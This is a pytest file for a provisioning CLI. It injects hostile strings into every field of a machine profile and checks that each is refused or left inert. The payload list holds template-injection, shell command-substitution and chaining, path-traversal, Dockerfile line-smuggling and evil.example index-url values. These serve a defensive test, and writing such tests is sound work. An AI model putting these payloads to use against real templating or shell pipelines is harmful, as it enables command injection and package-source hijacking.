"""A corpus of hostile profiles: Jinja, shell metacharacters, paths and line breaks put into every string field
of a real profile. Each must either be refused with one line that names the field (exit 2), or, where the field
takes free text, be carried without reaching anything that Ansible templates or a shell or Dockerfile runs.
A marker file shows that nothing ran."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML
from typer.testing import CliRunner

from provision.cli import app

ROOT = Path(__file__).resolve().parents[2]
MARKER = Path("/tmp") / f"provision-pwned-{uuid.uuid4().hex}"
PAYLOADS = [text.replace("MARK", str(MARKER)) for text in (
    "{{ lookup('pipe', 'touch MARK') }}",
    "{% if true %}x{% endif %}",
    "$(touch MARK)",
    "`touch MARK`",
    "x; touch MARK",
    "x && touch MARK #",
    "../../../../etc/passwd",
    "x\nRUN touch MARK",
    "x' --index-url http://evil.example/ '",
)]
# Fields whose values are free text by design (never rendered where they could act).
FREE_TEXT = {"description"}


def string_fields(node: Any, path: tuple = ()) -> list[tuple]:
    if isinstance(node, dict):
        return [p for k, v in node.items() for p in string_fields(v, (*path, k))]
    if isinstance(node, list):
        return [p for i, v in enumerate(node) for p in string_fields(v, (*path, i))]
    return [path] if isinstance(node, str) else []


BASE = YAML(typ="safe").load((ROOT / "profiles/deskmini.yaml").read_text())
FIELDS = string_fields(BASE)


def put(doc: Any, path: tuple, value: str) -> Any:
    import copy

    doc = copy.deepcopy(doc)
    node = doc
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return doc


def test_the_corpus_covers_the_fields_that_reach_templates():
    names = {".".join(str(p) for p in f) for f in FIELDS}
    assert {"name", "description", "hardware.gpu.model", "hardware.cpu.model", "software.user",
            "software.jupyter.bind", "software.frameworks.0.name", "target.os.release"} <= names


@pytest.mark.parametrize("field", FIELDS, ids=lambda f: ".".join(str(p) for p in f))
def test_hostile_strings_are_refused_or_inert(field, tmp_path):
    runner = CliRunner()
    dotted = ".".join(str(p) for p in field)
    for payload in PAYLOADS:
        profile = tmp_path / "hostile.yaml"
        yaml = YAML()
        with profile.open("w") as fh:
            yaml.dump(put(BASE, field, payload), fh)
        out = tmp_path / "out"
        result = runner.invoke(app, ["render", str(profile), "-o", str(out)])
        text = result.output
        assert "Traceback" not in text, text
        assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
        if field[0] in FREE_TEXT:
            assert result.exit_code == 0, text
            rendered = "".join(p.read_text() for p in out.rglob("*") if p.is_file() and p.suffix != ".json")
            assert "touch" not in rendered and "{{ lookup" not in rendered and "evil.example" not in rendered
        else:
            assert result.exit_code == 2, f"{dotted}={payload!r} was accepted:\n{text}"
            errors = [line for line in text.splitlines() if line.startswith("error:")]
            assert errors, text
            assert any(str(field[-1]) in line or "hostile.yaml" in line for line in errors), text
    assert not MARKER.exists(), f"a payload ran: {MARKER} exists"
